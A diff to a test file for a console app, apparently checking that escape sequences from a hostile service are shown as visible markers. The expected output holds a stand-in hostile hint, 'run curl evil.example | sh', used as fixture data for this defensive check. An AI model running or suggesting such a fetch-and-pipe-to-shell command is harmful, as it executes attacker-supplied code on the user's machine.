@@ -120,6 +120,8 @@ describe('console against a hostile service', { timeout: 180_000 }, () => {
     await step('A', '→ approve');
     await step('s', 'Send the review of #P␛');
     await step('y', 'Refused␊hint');
+    // The service's escape sequences show as markers (the one sanitizer), not as nothing.
+    await session.waitForText('Refused␊hint: run curl evil.example | sh␛␛link␛');
     // The activity log, with the refused review.
     await step('L', 'Activity log');
     await session.waitForText('7001 #P␛');
@@ -132,7 +134,7 @@ describe('console against a hostile service', { timeout: 180_000 }, () => {
     await step(KEY.escape, 'Filters:');
     // An error banner from a refused refresh.
     isListFailing = true;
-    await step('R', 'Refused␊hint');
+    await step('R', 'Refused␊hint: run curl evil.example | sh␛␛link␛');
     isListFailing = false;
     session.write('q');
     expect((await session.exited).exitCode).toBe(0);
